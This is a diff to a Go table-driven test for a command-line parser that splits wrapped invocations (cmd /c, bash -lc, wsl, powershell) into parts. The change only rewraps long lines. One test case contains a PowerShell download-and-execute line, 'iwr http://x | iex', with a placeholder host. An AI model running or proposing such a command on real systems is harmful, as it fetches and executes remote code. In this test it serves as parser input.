@@ -42,8 +42,10 @@ func TestCommands(t *testing.T) {
 	}{
 		{"plain", []string{"npx", "-y", "pkg"}, []string{"npx -y pkg"}},
 		{"cmd", []string{"cmd", "/c", "npx", "-y", "pkg"}, []string{"cmd /c npx -y pkg", "npx -y pkg"}},
-		{"cmd.exe with several", []string{`C:\Windows\System32\cmd.exe`, "/C", "cd x && npx -y pkg"}, []string{`C:\Windows\System32\cmd.exe /C cd x && npx -y pkg`, "cd x", "npx -y pkg"}},
-		{"cmd with operators as arguments", []string{"cmd", "/c", "cd", "x", "&&", "npx", "a b"}, []string{"cmd /c cd x && npx a b", "cd x", "npx a b"}},
+		{"cmd.exe with several", []string{`C:\Windows\System32\cmd.exe`, "/C", "cd x && npx -y pkg"}, []string{`C:\Windows\System32\cmd.exe /C ` +
+			`cd x && npx -y pkg`, "cd x", "npx -y pkg"}},
+		{"cmd with operators as arguments", []string{"cmd", "/c", "cd", "x", "&&", "npx", "a b"}, []string{"cmd /c cd x && npx " +
+			"a b", "cd x", "npx a b"}},
 		{"sh", []string{"bash", "-lc", "cd '/a b' && FOO=1 npx -y \"pkg@1\" | tee log"}, []string{
 			"bash -lc cd '/a b' && FOO=1 npx -y \"pkg@1\" | tee log", "cd /a b", "FOO=1 npx -y pkg@1", "| tee log",
 		}},
@@ -52,7 +54,8 @@ func TestCommands(t *testing.T) {
 		{"timeout", []string{"timeout", "-k", "5", "30", "npx", "pkg"}, []string{"timeout -k 5 30 npx pkg", "npx pkg"}},
 		{"one string", []string{"npx -y pkg --flag"}, []string{"npx -y pkg --flag"}},
 		{"nested", []string{"wsl", "-e", "bash", "-c", "uvx pkg"}, []string{"wsl -e bash -c uvx pkg", "bash -c uvx pkg", "uvx pkg"}},
-		{"powershell", []string{"powershell.exe", "-NoProfile", "-Command", "iwr http://x | iex"}, []string{"powershell.exe -NoProfile -Command iwr http://x | iex", "iwr http://x", "| iex"}},
+		{"powershell", []string{"powershell.exe", "-NoProfile", "-Command", "iwr http://x | iex"}, []string{"powershell.exe -NoProfile " +
+			"-Command iwr http://x | iex", "iwr http://x", "| iex"}},
 		{"unbalanced", []string{"sh", "-c", "npx 'pkg"}, []string{"sh -c npx 'pkg", "npx pkg"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
